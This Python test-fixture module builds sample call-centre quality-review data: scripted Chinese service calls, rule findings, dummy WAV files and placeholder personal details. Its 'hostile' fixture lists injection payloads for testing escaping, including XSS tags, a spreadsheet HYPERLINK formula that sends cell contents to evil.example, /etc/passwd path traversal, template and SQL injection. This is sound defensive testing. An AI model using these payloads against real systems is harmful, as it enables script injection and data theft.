"""A small day of calls for tests: 30 calls, 8 agents, 3 providers, hits, undecided verdicts, failures; and a hostile one.

Findings are written as `scan` writes them, with evidence cut out of the turns; recordings are real WAV files where asked for.
"""

from __future__ import annotations

import hashlib
import itertools
import math
import struct
import wave
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from qc.packs.conditions import Says, Silence, Term
from qc.packs.flatten import save
from qc.packs.model import Case, Dimension, Line, Pack, Rule
from qc.score import score
from qc.store import Store

AGENTS = {
    "华信外包": [("1001", "王芳"), ("1002", "李强"), ("1003", "张敏")],
    "速达客服": [("2001", "刘洋"), ("2002", "陈静"), ("2003", "杨帆")],
    "CloudDesk": [("3001", "Amy Wong"), ("3002", "赵磊")],
}


def _rule(rule_id: str, title: tuple[str, str], why: tuple[str, str], shape: tuple[str, str, float], **more: Any) -> Rule:
    dimension, severity, points = shape
    hit, miss = (Case(v, (Line("agent", w),)) for v, w in (("hit", "甲乙丙"), ("miss", "好的")))
    when = more.pop("when", Says((Term("word", "甲乙丙"),), who="agent"))
    texts = [{"zh": zh, "en": en} for zh, en in (title, why)]
    return Rule(rule_id, *texts, dimension, severity, points, when, (hit, miss), **more)  # type: ignore[arg-type]


def pack() -> Pack:
    """A pack of eight rules in four dimensions; one fatal, one bonus, one with a cap."""
    return Pack(
        id="ecommerce-test",
        version="1.2.0",
        title={"zh": "电商客服质检", "en": "E-commerce service quality"},
        dimensions=tuple(
            Dimension(i, {"zh": zh, "en": en})
            for i, zh, en in (
                ("certainty", "有保障", "Certainty"),
                ("simplicity", "简单", "Simplicity"),
                ("warmth", "有温度", "Warmth"),
                ("risk", "风险", "Risk"),
            )
        ),
        rules=(
            _rule(
                "promise-without-time",
                ("承诺没有时限", "Promise without a time"),
                (
                    "客户听到“尽快”，不知道要等到什么时候，只能再打一次电话。",
                    "«As soon as possible» leaves the customer waiting for nothing definite, so they call again.",
                ),
                ("certainty", "medium", -5),
                once_per_ms=60_000,
                cap=10,
                clause="服务协议 4.2",
            ),
            _rule(
                "passed-around",
                ("推给别人", "Passed on to somebody else"),
                ("客户找的是我们，不该再去找别人。", "The customer came to us and should not have to go elsewhere."),
                ("simplicity", "high", -10),
            ),
            _rule(
                "no-greeting",
                ("开场没有问候", "No greeting"),
                ("开场问候告诉客户有人在听。", "A greeting tells the customer that somebody listens."),
                ("warmth", "low", -3),
            ),
            _rule(
                "rude-words",
                ("辱骂客户", "Rude words"),
                ("任何情况下都不能辱骂客户。", "No situation excuses rude words to a customer."),
                ("warmth", "critical", -30),
            ),
            _rule(
                "long-silence",
                ("长时间静默", "Long silence"),
                ("没有说明的等待让客户以为掉线了。", "Without a word, the customer believes the line is dead."),
                ("warmth", "medium", -4),
                when=Silence(8_000, before="agent"),
            ),
            _rule(
                "asks-verification-code",
                ("索要验证码", "Asks for a verification code"),
                ("验证码等于客户的钱，任何人都不该要。", "The code is the customer's money; nobody may ask for it."),
                ("risk", "critical", -50),
                fatal=True,
            ),
            _rule(
                "customer-threatens-escalation",
                ("客户要升级投诉", "Customer threatens to escalate"),
                ("要尽快有人跟进。", "Somebody has to follow up."),
                ("risk", "high", 0),
            ),
            _rule(
                "praised-by-customer",
                ("客户表扬", "Praised by the customer"),
                ("值得给同事们听。", "Worth playing to colleagues."),
                ("warmth", "low", 3),
            ),
        ),
        authors=("Example",),
    )


# One story a kind of call: (role, text, quiet before in ms).
_OPEN = [("agent", "您好，工号三零二五为您服务。", 800), ("customer", "我的快递三天没动了，帮我看看。", 500)]
_BAD_OPEN = [("agent", "说吧，什么事。", 800), ("customer", "我的快递三天没动了，帮我看看。", 500)]
_CLOSE = [("customer", "那好吧，谢谢。", 500), ("agent", "感谢您的来电，祝您生活愉快，再见。", 400)]
STORIES: dict[str, list[tuple[str, str, int]]] = {
    "clean": [*_OPEN, ("agent", "我们将联系商家并在三小时内电话回复您。", 700), *_CLOSE],
    "promise": [
        *_OPEN,
        ("agent", "我们会尽快联系商家，请您放心。", 700),
        ("customer", "尽快是多久？", 500),
        ("agent", "这个尽快就是尽快。", 600),
        *_CLOSE,
    ],
    "passed": [
        *_OPEN,
        ("agent", "这个不归我们管，您去找商家吧。", 700),
        ("customer", "我找过了，他们让我找你们。", 500),
        *_CLOSE,
    ],
    "greeting": [*_BAD_OPEN, ("agent", "我查一下。", 700), *_CLOSE],
    "rude": [*_BAD_OPEN, ("agent", "我都说了多少遍了，你有病吧。", 700), ("customer", "你怎么骂人，我要打一二三一五！", 400)],
    "silence": [*_OPEN, ("agent", "嗯，我看到了，包裹在中转站。", 12_400), *_CLOSE],
    "code": [*_OPEN, ("agent", "您把验证码告诉我，我帮您操作退款。", 700), ("customer", "这个不能说吧。", 500), *_CLOSE],
    "praise": [*_OPEN, ("agent", "已经给您改好了，今天下午五点前送到。", 700), ("customer", "太感谢你了，你的服务真好。", 500)],
    "unheard": [("customer", "我的快递三天没动了，帮我看看。", 4_000), ("agent", "好的，我帮您催一下。", 600), *_CLOSE],
}
MARKS = {
    "promise": [("promise-without-time", "尽快")],
    "passed": [("passed-around", "不归我们管")],
    "greeting": [("no-greeting", None)],
    "rude": [("no-greeting", None), ("rude-words", "你有病吧"), ("customer-threatens-escalation", "我要打一二三一五")],
    "silence": [("long-silence", "gap")],
    "code": [("asks-verification-code", "把验证码告诉我")],
    "praise": [("praised-by-customer", "你的服务真好")],
}
ORDER = (
    "clean promise clean silence clean passed clean praise clean greeting clean unheard promise clean clean "
    "code clean clean passed clean rude clean promise clean unheard clean clean greeting"
).split()


def turns_of(story: list[tuple[str, str, int]]) -> list[dict[str, Any]]:
    """Turns with times at four characters a second."""
    out, at = [], 0
    for number, (role, text, before) in enumerate(story):
        at += before
        end = at + 250 * len(text)
        out.append(
            {
                "turn": number,
                "channel": int(role == "customer"),
                "role": role,
                "start_ms": at,
                "end_ms": end,
                "text": text,
                "flags": [],
            }
        )
        at = end
    return out


def evidence_of(turns: list[dict[str, Any]], words: str | None) -> list[dict[str, Any]]:
    """Evidence as `scan` writes it: the words, each occurrence; «gap» the longest silence; None the first 15 seconds."""
    empty = {"turn": None, "char_start": None, "char_end": None, "quote": None}
    if words is None:
        return [{**empty, "role": "agent", "start_ms": 0, "end_ms": 15_000}]
    if words == "gap":
        gaps = [(b["start_ms"] - a["end_ms"], a["end_ms"], b["start_ms"]) for a, b in itertools.pairwise(turns)]
        _, start, end = max(gaps)
        return [{**empty, "role": "agent", "start_ms": start, "end_ms": end}]
    out = []
    for t in turns:
        at = t["text"].find(words) if t["role"] == "agent" or words != "尽快" else -1
        while at >= 0:
            where = {"char_start": at, "char_end": at + len(words), "quote": words}
            times = {"start_ms": t["start_ms"] + 250 * at, "end_ms": t["start_ms"] + 250 * (at + len(words))}
            out.append({"turn": t["turn"], "role": t["role"], **times, **where})
            at = t["text"].find(words, at + 1)
    return out


def verdicts_of(kind: str, turns: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """Verdicts of a story in the pack's order."""
    rules = {r.id: r for r in pack().rules}
    order = list(rules)
    found = []
    for rule, words in sorted(MARKS.get(kind, []), key=lambda m: order.index(m[0])):
        evidence = evidence_of(turns, words)
        count = len(evidence) if rules[rule].once_per_ms else 1
        found.append({"rule": rule, "verdict": "hit", "severity": rules[rule].severity, "count": count, "evidence": evidence})
    if kind == "unheard":
        undecided = {
            "rule": "no-greeting",
            "verdict": "undecided",
            "severity": "low",
            "count": 0,
            "coverage": 0.42,
            "why": "not_heard",
        }
        found.append({**undecided, "evidence": []})
    return found


def write_wav(path: Path, ms: int, *, rate: int = 8000) -> str:
    """Two seconds' worth of quiet tones repeated, two channels, PCM16; the SHA-256 of its bytes."""
    path.parent.mkdir(parents=True, exist_ok=True)
    samples = [int(1500 * math.sin(2 * math.pi * 220 * i / rate)) for i in range(rate)]
    second = b"".join(struct.pack("<hh", s, -s) for s in samples)
    with wave.open(str(path), "wb") as file:
        file.setnchannels(2)
        file.setsampwidth(2)
        file.setframerate(rate)
        for _ in range(max(ms // 1000, 1)):
            file.writeframes(second)
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _transcript(call_id: str, turns: list[dict[str, Any]], *, coverage: float = 1.0, mono: bool = False) -> dict[str, Any]:
    length = turns[-1]["end_ms"] + 1000 if turns else 1000
    roles = []
    for channel, role in enumerate(("agent", "customer")):
        speech = sum(t["end_ms"] - t["start_ms"] for t in turns if t["role"] == role)
        heard = int(speech * coverage)
        roles.append(
            {"channel": channel, "role": role, "speech_ms": speech, "heard_ms": heard, "coverage": coverage, "level_dbfs": -20.0}
        )
    return {
        "call_id": call_id,
        "status": "ok",
        "warnings": ["mono"] if mono else [],
        "source": "audio",
        "container": "wav",
        "codec": "pcm_s16le",
        "rate_hz": 8000,
        "channels": 2,
        "duration_ms": length,
        "language": "zh",
        "engine": "whisper",
        "model": "demo-zh",
        "model_sha256": "5d" * 32,
        "tool_version": "0.1.0",
        "roles": roles,
        "spans": [],
        "turns": turns,
    }


_FAILURES = (
    ("missing_file", "20251103-9001.wav: the list names a recording that was not found"),
    ("not_audio", "20251103-9002.wav: the file's name says recording, its content does not"),
)


def normal(folder: Path, *, audio: bool = False) -> Store:
    """The normal store, scored. With `audio`, the calls with findings have recordings under `folder/recordings`."""
    store = Store(folder / "store")
    rules = pack()
    save(store, rules)
    base = {"pack_id": rules.id, "pack_version": rules.version, "pack_sha256": rules.sha256, "pack_signer": "local"}
    people = [(p, i, n) for p, agents in AGENTS.items() for i, n in agents]
    calls, transcripts, findings = [], [], []
    for n, kind in enumerate([*ORDER, *_FAILURES]):
        call_id = f"20251103-{1001 + n:04d}"
        provider, agent, name = people[(n * n + n // 3) % len(people)]
        who = {} if n == 13 else {"provider": provider, "agent_id": agent, "agent_name": name}
        started = f"2025-11-03T{9 + n // 4:02d}:{7 * n % 60:02d}:00+08:00"
        call = {"call_id": call_id, "file": f"{agent}/{call_id}.wav", "listed": True, "found": True, "started_at": started, **who}
        finding = {"call_id": call_id, **base, "tool_version": "0.1.0", "transcript_sha256": "0" * 64, "rules": len(rules.rules)}
        if isinstance(kind, tuple):
            reason, message = kind
            calls.append({**call, "found": False})
            failed = {"status": "failed", "reason": reason, "message": message}
            transcripts.append({"call_id": call_id, **failed, "tool_version": "0.1.0"})
            findings.append({**finding, **failed})
            continue
        turns = turns_of(STORIES[kind])
        transcript = _transcript(call_id, turns, coverage=0.71 if kind == "unheard" else 0.994, mono=n == 8)
        verdicts = verdicts_of(kind, turns)
        if audio and verdicts:
            path = folder / "recordings" / call["file"]
            transcript["audio_sha256"] = write_wav(path, transcript["duration_ms"])
            call["path"] = str(path)
        tally = {v: sum(x["verdict"] == v for x in verdicts) for v in ("hit", "undecided")}
        calls.append(call)
        transcripts.append(transcript)
        findings.append({**finding, "status": "ok", "hits": tally["hit"], "undecided": tally["undecided"], "verdicts": verdicts})
    for table, rows in (("calls", calls), ("transcripts", transcripts), ("findings", findings)):
        store.append(table, rows)
    score(store)
    return store


def empty(folder: Path) -> Store:
    """A store with calls that nobody transcribed or scanned."""
    store = Store(folder / "store")
    store.append("calls", [{"call_id": f"c{i}", "file": f"c{i}.wav", "listed": True, "found": i > 0} for i in range(2)])
    return store


PRIVATE = ("13800138000", "张建国", "wangfang@example.com", "6222021234567890123")


def personal(folder: Path, *, audio: bool = False) -> Store:
    """Two calls in which a customer gives away who they are: inside the evidence, beside it, dictated over turns, in a file's name."""
    phone, name, mail, card = PRIVATE
    store = Store(folder / "store")
    rules = pack()
    save(store, rules)
    base = {"pack_id": rules.id, "pack_version": rules.version, "pack_sha256": rules.sha256, "pack_signer": "local"}
    stories = [
        [
            ("agent", f"您的电话是{phone}对吗，我们会尽快回复{phone}这个号码。", 800),
            ("customer", f"对，我叫{name}，邮箱是{mail}。", 500),
            ("agent", "好的，再见。", 500),
        ],
        [
            ("customer", f"卡号是{card}。", 800),
            ("agent", "我们会尽快处理。", 500),
            ("customer", "电话一三八", 500),
            ("agent", "嗯", 300),
            ("customer", "零零一三八零零零", 300),
        ],
    ]
    calls, transcripts, findings = [], [], []
    for n, story in enumerate(stories):
        call_id = f"p{n}"
        turns = turns_of(story)
        words = f"尽快回复{phone}" if n == 0 else "尽快"
        hit = {
            "rule": "promise-without-time",
            "verdict": "hit",
            "severity": "medium",
            "count": 1,
            "evidence": evidence_of(turns, words),
        }
        call = {"call_id": call_id, "file": f"{phone}.wav", "listed": True, "found": True, "provider": "甲", "agent_id": "1"}
        transcript = _transcript(call_id, turns)
        if audio:
            path = folder / "recordings" / f"{call_id}.wav"
            transcript["audio_sha256"] = write_wav(path, transcript["duration_ms"])
            call["path"] = str(path)
        calls.append(call)
        transcripts.append(transcript)
        findings.append({"call_id": call_id, **base, "status": "ok", "hits": 1, "undecided": 0, "verdicts": [hit]})
    for table, rows in (("calls", calls), ("transcripts", transcripts), ("findings", findings)):
        store.append(table, rows)
    score(store)
    return store


EVIL = (
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "../../../../etc/passwd",
    "\u202egnp.exe",
    "a\x00b\x1b[31m\r\n",
    "{{ 7*7 }}{% raw %}",
    '" onmouseover="alert(1)',
    "</mark></script><img src=x onerror=alert(1)>",
    "@SUM(1+1)|cmd",
    "%2e%2e/%00",
    "长" * 700,
    "' or 1=1 --",
)


def hostile(folder: Path, texts: Sequence[str] = EVIL) -> Store:
    """Names, ids, quotes and messages that attack whoever shows them."""
    store = Store(folder / "store")
    rules = pack()
    save(store, rules)
    base = {"pack_id": rules.id, "pack_version": rules.version, "pack_sha256": rules.sha256, "pack_signer": "local"}
    calls, transcripts, findings = [], [], []
    for n, evil in enumerate(texts):
        call_id = f"{evil}#{n}"
        calls.append(
            {
                "call_id": call_id,
                "file": evil,
                "path": f"/nowhere/{n}",
                "listed": True,
                "found": True,
                "agent_id": evil,
                "agent_name": evil,
                "provider": evil,
                "started_at": evil,
            }
        )
        if n % 4 == 3:
            failed = {"status": "failed", "reason": evil, "message": evil}
            transcripts.append({"call_id": call_id, **failed})
            findings.append({"call_id": call_id, **base, **failed})
            continue
        turns = turns_of([("agent", f"尽快{evil}尽快", 500), ("customer", evil, 500)])
        verdicts = [
            {
                "rule": "promise-without-time",
                "verdict": "hit",
                "severity": "medium",
                "count": 1,
                "evidence": evidence_of(turns, evil),
            }
        ]
        verdicts.append(
            {"rule": "no-greeting", "verdict": "undecided", "severity": "low", "count": 0, "why": evil, "evidence": []}
        )
        transcripts.append({**_transcript(call_id, turns), "warnings": [evil], "model": evil})
        findings.append({"call_id": call_id, **base, "status": "ok", "verdicts": verdicts})
    for table, rows in (("calls", calls), ("transcripts", transcripts), ("findings", findings)):
        store.append(table, rows)
    score(store)
    return store
